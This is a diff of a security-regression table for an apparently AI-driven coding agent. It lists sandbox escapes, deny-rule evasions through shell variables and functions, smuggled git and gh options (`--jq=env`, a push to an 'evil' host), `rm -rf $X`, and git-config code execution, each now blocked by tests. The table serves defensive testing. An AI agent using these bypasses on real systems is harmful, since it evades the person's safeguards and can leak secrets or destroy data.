@@ -35,6 +35,10 @@ held since, by the test that plays it.
 | a read of a file in a folder outside, beside a call whose question about the names in that folder got a yes for this call | ran unasked: held by `tests/security/test_confirm.py`, `tests/session/test_outside.py` |
 | a hook of yours with `"if": "Write(config/*)"`, and the same file as `./config/x`, `x/../config/x`, by its whole path, through a link, with another space in its name | was not asked: held by `tests/session/test_user_hooks.py` |
 | `@docs/api/../notes.txt`, where `docs/api` is a link of the repository that leads out of it | was attached unasked: held by `tests/security/test_links.py` |
+| `--add-dir ~/.ssh` at a start, `/sandbox write ~/.ssh` | were taken, where `/add-dir` refuses: refused: held by `tests/session/test_checking.py` |
+| `ybs sandbox exec --add-dir NAME` (`ybs tools`, `ybs mcp test`), where NAME is a link of the project that leads out | read and wrote outside the project: refused, as in a session: held by `tests/frontends/subcommands/test_sandbox.py`, `tests/session/test_checking.py` |
+| two calls of one file tool in one answer, and a link or file that is changed while the second one is asked about | the first one was worked out anew: held by `tests/tools/test_read_file.py`, `tests/tools/test_write_file.py` |
+| a command in the background that changes a file in place, of the same size, and sets its time back, while the question about `delete_file` is open | the changed file was deleted, as only number, size and time of the content counted: now the time of its last change of state counts too, which nobody can set: held by `tests/tools/test_delete_file.py` |
 
 ### Words and data
 
@@ -70,6 +74,7 @@ held since, by the test that plays it.
 | a `!` before a folded paste that begins with `!`, put back by `/undo` | came back as `!!`, a line for the person's own shell: held by `tests/session/test_injection.py` |
 | a file outside that the person refused to attach, in words that `/undo` brings back, cut short | attached unasked: asked about again: held by `tests/session/test_mentions.py` |
 | a line of an editor with `@/outside` that waits, is taken back in a terminal on the same session and sent | the file was attached unasked: held by `tests/session/test_inbox.py` |
+| `reset.md`, `login.md` among a trusted project's commands | was what `/reset` and `/login` do: held by `tests/commands/test_custom.py` |
 
 ### Commands and the sandbox
 
@@ -123,6 +128,12 @@ held since, by the test that plays it.
 | a rule `git commit *` with an editor that loads files of the folder it starts in; `git stash --all`, `git checkout` of a branch with ybs's own `.venv` | ran the repository's `.exrc` outside, changed ybs: held by `tests/session/test_outside_sandbox.py` |
 | files that the question about a command outside did not name: in a folder exchanged by renaming or without the right to list it (`chmod 311`), the sixth of six, one that `make release` runs behind a question which only offers the way out | stood nowhere in the question: held by `tests/session/test_outside_sandbox.py` |
 | a rule `git grep *`, `git push *` or `git log *` of `safety.outside_sandbox`, and that very text as the command, with files called `-Osh`, `host:x` or `--output=x` | ran outside, unasked: held by `tests/session/test_outside_sandbox.py`, `tests/security/test_command_case.py` |
+| an option that hides as the text of another one, under `git *`, `gh *` or `glab *` (`git tag -u -m -F../file`, `gh issue list -l -b --jq=env`, `gh issue create -l -b -Revil/x`, `glab release create v1 -r -b -F/path`) | read any file into a tag, printed the variables, wrote to another repository: held by `tests/security/test_outside_words.py`, `tests/session/test_outside_sandbox.py` |
+| a value before the address of a push, where a rule names an option that takes one (`git push -o *`: `git push -o origin evil:x.git`) | pushed to another host: held by `tests/session/test_outside_sandbox.py` |
+| a server with `"project": "write"` that exchanges a file for a link while `git` or `gh` leaves by a rule; a hook, job or tool that begins after the look | only jobs were looked for, and before the hooks of the call ran: held by `tests/session/test_outside_sandbox.py`, `tests/tools/shell/test_orphans.py` |
+| an archive whose git folder holds `glab-cli/config.yml` (`browser`, `api_host`), or whose settings have `gh-resolved = evil/other` | started a program, sent the login elsewhere, wrote to another repository: held by `tests/session/test_outside_sandbox.py`, `tests/security/test_git_settings.py` |
+| a bare repository that is made in the project after a yes to `git commit` of which the question named no file | had it start as in the person's own shell, with programs of the project: held by `tests/session/test_outside_sandbox.py` |
+| 4.6 KB of comments before the path in `objects/info/alternates` | another repository's objects were read, and a rule of `safety.outside_sandbox` counted there: refused: held by `tests/git/test_sandbox.py` |
 
 ### Questions and rules
 
@@ -154,6 +165,15 @@ held since, by the test that plays it.
 | a settings file that others may write, and `/permissions` or `ybs config set`, which would have written it anew as the person's alone | refused: held by `tests/config/test_settings_file.py` |
 | a question about `echo BASE64 \| base64 -d > ~/.npmrc` whose base64 has a made-up token and lines of the model's beside it; the same in hex, in base64 of base64, in the new line of a diff; a JWT of thousands of characters as a command's payload | one placeholder hid all of it: what is encoded is shown as it stands, and a long placeholder says how many characters it hides: held by `tests/security/firewall/test_masking.py` |
 | `.ybs.json` with a server whose arguments hide code behind a token, `/trust`, then `/trust give` | was trusted unseen: encoded text is shown, and `/trust give` trusts nothing while a token is hidden: held by `tests/commands/test_trust.py` |
+| `safety.deny: ["run_shell(git push *)"]` or a hook's `"if": "Bash(git push:*)"`, and `X=push; git $X`, `git ${X:-push} o`, `git {push,o}`, `git p?sh`, `f(){ git "$@"; }; f push`, `g=git; $g push`, `a=git; b="$a push"; $b o` | ran, also outside the sandbox, with `--mode bypass`: held by `tests/security/test_rules.py`, `tests/security/test_policy.py`, `tests/session/test_user_hooks.py` |
+| the same rule, and `git --config-env a=b push`, `git --attr-source HEAD push`, an option of a later git before `push`; with them `push -f`, `clean -f`, `reset --hard` | was not seen: held by `tests/security/test_rules.py`, `tests/security/test_dangers.py` |
+| `X=/; rm -rf $X` (blocked), `X=rm; $X -r y`, `G=git; $G push -f` (names of variables in capital letters), `npm --prefix x publish`, `kubectl -n x --context y delete` | was not blocked, was not warned about: held by `tests/security/test_dangers.py` |
+| a rule `make deploy-check *`, `mvn test-compile *`, `just release-notes *`, `make test-*`, `rg --pretty *`, `rg --pre=./x *`, and `make deploy-check deploy`, `mvn test-compile compile`, `make test-unit deploy`, `rg --pretty --pre=./x y`, `rg --pre=./x --pre=./xy z` | was covered: held by `tests/security/test_rules.py` |
+| "always" with the network for `conda install *`, and `conda install -cother x`; for `uv pip *`, and `echo 'x @ https://…' \| uv pip install -r -` | was covered: held by `tests/security/test_scopes.py` |
+| a rule without a star, and that very command with a blank around it that is a letter for the shell (U+00A0) | was covered: held by `tests/security/test_rules.py` |
+| a file of the rules kept for a project that is damaged, is another folder's or can be written by others, with a rule in it that denies; a rule in it that denies and cannot be read | the rule was dropped with a warning: every call is asked about, in `bypass` too, and `plan` and `deny` refuse: held by `tests/security/test_policy_rules.py`, `tests/trust/test_project_rules.py` |
+| `ybs sandbox exec --deny "runshell(…)"` (a rule about no tool) | started: refused, as a session is: held by `tests/frontends/subcommands/test_sandbox.py` |
+| an answer "always" from a client of `ybs serve` to a question about a file in the home folder, where it was not offered | opened all of the home folder for reading: held by `tests/security/test_confirm.py` |
 
 ### What runs later
 
@@ -190,6 +210,8 @@ held since, by the test that plays it.
 | a nested repository with `core.fsmonitor` and `.vscode/tasks.json`, left by a hook of yours in the sandbox (`npm run -s format`), in an untrusted clone in mode `plan` too, or by a server with `"project": "write"` | was named to nobody: held by `tests/agent/test_autorun_watch.py` |
 | `.envrc`, `CLAUDE.md` and a workflow that a command makes in a folder that came by `/add-dir` after the first command | were named to nobody: held by `tests/agent/test_autorun_watch.py`, `tests/security/test_autorun_changes.py` |
 | a command by `ybs tool call` that leaves `.vscode/tasks.json` | was named to nobody: held by `tests/frontends/subcommands/test_tools.py` |
+| an `.envrc` of more than 64 KB that sources a script behind that | the script was edited unasked, and commands could write it: read to 4 MB, and where it is longer all of the project is held: held by `tests/security/test_targets.py` |
+| settings of git of more than 1 MB, of more than 500 files, or with a command of more than 5,000 characters | what stood behind was not held: all of the project is: held by `tests/security/test_git_settings.py` |
 
 ### ybs's own code
 
@@ -204,6 +226,7 @@ held since, by the test that plays it.
 | a plug-in of the project that is linked into a part of a package (`flit install --symlink`), or that a finder without a list leads to (`editables` of hatchling and pdm); `write_file` in `accept-edits` | was written, and the next ybs ran it: held by `tests/security/test_own_code.py` |
 | `sitecustomize.py`, made by a command in the folder of an editable install that is called `vendor` or `site-packages` | was not named, as nothing among dependencies is: it is: held by `tests/security/test_folder_index.py` |
 | `export PYTHONPATH=$PYTHONPATH:~/lib` where it was unset, whose empty entry is the folder that ybs is started in, and a `msgspec.py` or `msvcrt.py` there | was loaded into ybs: held by `tests/security/test_own_code.py` |
+| a plug-in in site-packages that lacks a package, and a file of that name in the folder of a project that is installed beside ybs as editable | was loaded into ybs: only what is installed as editable itself finds more beside it: held by `tests/config/test_editables.py` |
 
 ### Programs that ybs starts for itself
 
@@ -216,6 +239,8 @@ held since, by the test that plays it.
 | git settings there with fsmonitor, pager, filters, textconv, hooks, aliases, gpg, credential helper, `include.path`; `.env`, `.envrc`, settings of ybs and other agents, MCP servers, skills, agents, commands | nothing of it ran |
 | `BASH_ENV`, `VIMINIT`, `XDG_CONFIG_HOME`, `TMPDIR` that lead into the project, and your editor | were handed on: held by `tests/frontends/terminal/prompt/test_editor.py` |
 | `pip.conf` at the top of a project that is a virtual environment, by `ybs models download` | said what pip runs and writes: held by `tests/providers/local/test_fetch.py` |
+| a line for cron or a timer by `./ybs learn schedule`, which enters the project | named `./ybs`, so that the project's file of that name would run by the clock: names the whole path: held by `tests/frontends/subcommands/test_learn.py` |
+| a login in the address of the model (`http://me:PASSWORD@host/v1`) of a setting, and `/doctor` in a chat | stood on a command line that every user of the machine sees: stands in a variable of that process: held by `tests/frontends/terminal/test_programs.py` |
 
 ### Git
 
@@ -224,6 +249,10 @@ held since, by the test that plays it.
 | `.git` a file, a worktree, a submodule, a link, with `commondir`, a nested repository, each with settings that run programs; ybs's commits, status, diff, branch | nothing of it ran, and none can be written to |
 | `.git` a file, a link, with `commondir`, `alternates`, `objects` or `core.worktree` that lead to another repository of yours; 8 made-up worktrees and submodules whose way back fits | no command and no git of ybs's reads that one |
 | 56 git settings one by one while ybs commits, with bubblewrap (filters, promisor with `ext::`, signing, `mailmap`, templates, hooks, trace, encodings) | held; nothing ran, nothing of yours came in |
+| an archive whose `.git/config` names a filter behind 8 MB of comments, or ends in `\` before a `config.worktree` that names one, never trusted, with `--no-sandbox` | ybs's own git ran it with your rights at `git status`: git lists each file as it reads it, and each such key is overridden: held by `tests/git/test_client.py` |
+| hooks by settings (`hook.x.command`), and any kind of key that git gets later | were not overridden by ybs's own git: each key that is not known to be harmless is: held by `tests/git/test_client.py`, `tests/security/test_git_settings.py` |
+| `/sandbox on` in a session that began with `--no-sandbox`, then `git status` in such a repository | ybs's own git went on without a sandbox: it has one at once: held by `tests/commands/test_sandbox.py`, `tests/git/test_sandbox.py` |
+| a git hook that is changed behind its first megabyte, after you agreed to it | ran without a question: all of the file counts, and one over 200 MB does not run: held by `tests/git/test_hooks.py` |
 
 ### Own servers, hooks and tools, and plugins
 
@@ -270,6 +299,9 @@ held since, by the test that plays it.
 | a clone that nobody trusts with `safety.sandbox_blocked_paths` on the script of a guard hook (`"sandbox": true`), on `grep`, on `/usr` or on a file that the guard reads; the same against a plugin's guard | took the guard away, in part without a word, and the call went on: held by `tests/session/test_user_hooks.py`, `tests/trust/test_project_settings.py`, `tests/security/test_session_sandbox.py` |
 | a guard hook that does not start: a job renames a folder while its sandbox is built, a comment is appended to its script in a trusted project, its program is not there or may not be executed | had nothing against the call: the call is refused: held by `tests/session/test_user_hooks.py`, `tests/security/test_bubblewrap.py` |
 | the home folder as project, or added (`--add-dir ~`), and a `package.json` that the model writes there; a hook of the person's by `npx` | ran it outside of the sandbox, with keys, in later sessions too: held by `tests/security/test_own_programs.py` |
+| other `instructions` of an MCP server that is known, and other titles and descriptions of its prompts and resources | no word of them reached a model, before or after the change; `instructions` are not even kept now: held by `tests/session/test_mcp.py` |
+| a damaged file of what was approved of MCP servers (or one of a later version) | all tools of all servers counted as approved, and it was written over: held by `tests/tools/mcp/test_pins.py` |
+| `delete_file` of a link, where an MCP server stands in for it (`replace_default`) | the server was handed what the link leads to: held by `tests/session/test_mcp.py` |
 
 ### Trust in a project
 
@@ -324,6 +356,8 @@ held since, by the test that plays it.
 | a trusted project's MCP server with a list as `command` and an object as `args` (`{"server.py": ""}`), whose keys it was started with | `server.py` was not bound to the trust, and could change later; a folder named so was shown to the server and not listed: such an entry is not used: held by `tests/tools/mcp/test_settings.py` |
 | a tool in a profile of a project that reads a variable of yours | was not shown among them and could not be granted: a project has no profiles: held by `tests/trust/test_grants.py` |
 | a program of the repository around a project, first on `PATH`, with the name of a server's | the question listed it, and another one started: held by `tests/trust/test_shown.py` |
+| a trusted project's server that reads a variable (`${LOGIN}`) of the same value as a key that the system's keyring alone keeps | could be granted: the keyring is asked before a grant, and such a variable counts as a key: held by `tests/trust/test_grants.py` |
+| relative paths of your own settings in `context.system_prompt_file` and `skills.search_paths`, in a project that is not trusted (`p.md`, `./p.md`, `x/../p.md`, `~p.md`) | waited for trust, but for `~p.md`, which was taken: waits, too: held by `tests/session/test_opening.py`, `tests/session/test_skills.py` |
 
 ### Other agents and sub-agents
 
@@ -366,6 +400,11 @@ held since, by the test that plays it.
 | a trusted project that defines a provider with a model of a great name (`claude-opus-700b`), or chooses provider, address or model of `llm`, beside your `router.enabled`; `llm.provider: "auto"` of one | the router sent it most prompts; switched the router on: a project chooses a model's name at most: held by `tests/trust/test_grants.py` |
 | `llm.model: gpt-oss-cloud` and `kimi:cloud[1m]` of a project | passed for models of this machine's Ollama, which passes them on: one reading of such names: held by `tests/trust/test_project_settings.py` |
 | a provider of a trusted project called as one that a package brings | took its place: a project names no provider: held by `tests/trust/test_grants.py` |
+| `agent.retry_attempts: 0` in the settings of a project that is not trusted | each turn went on to your `llm.fallback` after one failure: needs trust: held by `tests/trust/test_project_settings.py` |
+| an MCP server of yours at `http://` on another machine with `?key=${KEY}`, `/${KEY}/mcp` or `user:${PASSWORD}@` in its address | the key went over the open line, as only `headers` were refused: refused before anything is sent: held by `tests/tools/mcp/test_http.py` |
+| a key in `llm.api_key` of your own file and `OPENAI_BASE_URL` (`ANTHROPIC_BASE_URL`, …) of another tool, over `http://` too | the key went to that address, unsaid: it stays, and you are told: held by `tests/providers/test_provider_registry.py`, `tests/session/test_checking.py` |
+| `llm.fallback: ["home"]` where `providers.home.model` is a `…-cloud` model of Ollama, with `incognito.local_only`, or behind a model of this machine | took over, as it was judged without its model's name: left out: held by `tests/providers/test_fallback.py` |
+| an address from a client's variable alone, a kill of `ybs serve`, and another provider in the settings by then | had the key in a variable afterwards: held by `tests/frontends/serve/test_bounds.py` |
 
 ### Secrets
 
@@ -419,6 +458,9 @@ held since, by the test that plays it.
 | commands that overwrite what undo cannot bring back, with a variable in the line (`X=1; echo $X > big.iso`, a here-document, `&>`), in another folder (`(cd nm; ls); rm big.iso`, `cd x \|\| rm f`, `pushd`, `env -C`, `git -C`), by other programs (`git rm -f`, `trash`, `rsync a f`, `cp -t`, `sort -o f`, `curl -o f`, `sed -Ei`) | ran unasked: one table, and the folder that the command runs in: held by `tests/tools/shell/test_losses.py` |
 | `rm a.txt` and `delete_file` where the disk of the state folder is full, and `rm` behind a command of the same turn that ran without a look | ran unasked, with a notice afterwards: held by `tests/tools/shell/test_losses.py` |
 | `rm root.txt`, a file that a container left and only root may read, as the first command | not asked about: held by `tests/tools/shell/test_losses.py`, `tests/session/test_undoing_ignored.py` |
+| `ybs acp --mode plan --deny run_shell` and `ybs acp --incognito`, and `session/load` or `session/resume` of a session that is open in the server in mode `auto`; the page's `resume` with `incognito` of one that is open and saved | were let in and none of the options held: the model's command ran unasked, and words of an incognito editor were saved: refused, as `attach` is: held by `tests/frontends/acp/test_shared.py`, `tests/frontends/web/test_api.py` |
+| a program that opens a saved session which is open in the hub | shared it by its name, with whatever options: `Busy`: held by `tests/session/test_hub.py` |
+| a session that becomes incognito while a page of another login shows it | the page went on showing it: its tab ends: held by `tests/frontends/web/test_following.py` |
 
 ### Terminal
 
@@ -450,6 +492,10 @@ held since, by the test that plays it.
 | Telegram's answer that a file lies at a path of this machine; a command that another bot writes on somebody's behalf | was read; counted: held by `tests/frontends/gateway/test_telegram.py`, `tests/frontends/gateway/test_attacks.py` |
 | "Allow" in Neovim (CodeCompanion's Enter, avante's Yes), `y` in Emacs, for a command, one with the network, `ask_user` | ran outside the sandbox, had the network, was kept for the project, answered as the person: one answer of each kind, and a title that says what it gives: held by `tests/frontends/acp/test_kinds.py` |
 | a program on the port of a `ybs web` that ended, which reads the storage and is sent the cookie, and uses both when ybs has the port again | was the person, with commands: a login ends with the process where the server has no certificate: held by `tests/frontends/web/test_browser.py`, `tests/frontends/web/test_server.py` |
+| the port of Telegram's webhook, taken by another user of the machine while the gateway does not run | is sent the secret with the messages, and could make up messages of the owner's once the gateway runs again: each start has a secret of its own, and the last one is refused: held by `tests/frontends/gateway/test_telegram.py` |
+| a channel that does not say whether words are the person's own | counted as the person's own: each has to say it: held by `tests/frontends/gateway/test_attacks.py` |
+| `plan`, set on the page or by `ybs attach` in the session of a chat, and fifteen idle minutes | the chat was in its older mode again: held by `tests/frontends/gateway/test_reduced.py` |
+| a job that exchanges a file, or a link to it, while the owner reads the question of `send_file` | the other file was sent: held by `tests/frontends/gateway/test_files.py` |
 
 ### Many at once
 
